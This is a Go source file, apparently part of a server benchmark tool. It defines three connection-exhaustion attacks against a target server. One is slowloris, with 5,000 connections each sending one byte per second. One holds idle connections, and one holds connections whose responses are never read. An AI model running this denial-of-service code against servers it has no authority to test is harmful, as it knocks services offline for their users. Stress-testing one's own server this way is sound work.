package attack

import (
	"context"
	"errors"
	"net"
	"time"

	"pumpd/bench/sock"
)

// Those who take a place and make no use of it.
var (
	slowloris = Kind{
		Name:  "slowloris",
		About: "5,000 connections that send one byte of a request each second",
		Run: func(ctx context.Context, v Victim, log *Log) error {
			keep(ctx, v.scaled(5000), v.Plain, 0, log, func(conn *net.TCPConn) error {
				log.sent(1)
				for request := v.describeHead(); ctx.Err() == nil; wait(ctx, time.Second) {
					if _, err := conn.Write(request[:1]); err != nil {
						return err
					}
					request = append(request[1:], 'a') // the last field has no end
				}
				return nil
			})
			return nil
		},
	}
	idle = Kind{
		Name:  "idle",
		About: "5,000 connections that say nothing",
		Run: func(ctx context.Context, v Victim, log *Log) error {
			keep(ctx, v.scaled(5000), v.Plain, 0, log, func(conn *net.TCPConn) error { return holdUnread(ctx, conn) })
			return nil
		},
	}
	unread = Kind{
		Name:  "unread",
		About: "5,000 viewers who read nothing",
		Run: func(ctx context.Context, v Victim, log *Log) error {
			const rcvbuf = 4096
			keep(ctx, v.scaled(5000), v.Plain, rcvbuf, log, func(conn *net.TCPConn) error {
				log.sent(1)
				if _, err := conn.Write(v.playRequest()); err != nil {
					return err
				}
				return holdUnread(ctx, conn)
			})
			return nil
		},
	}
)

// errCut says that the server has closed a connection that nobody reads.
var errCut = errors.New("cut")

// holdUnread keeps a connection until the server ends it, or ctx is done.
func holdUnread(ctx context.Context, conn *net.TCPConn) error {
	const look = 500 * time.Millisecond
	raw, err := conn.SyscallConn()
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		over := true
		if err := raw.Control(func(fd uintptr) { over = sock.PeerClosed(int(fd)) }); err != nil || over {
			return errCut
		}
		wait(ctx, look)
	}
	return nil
}
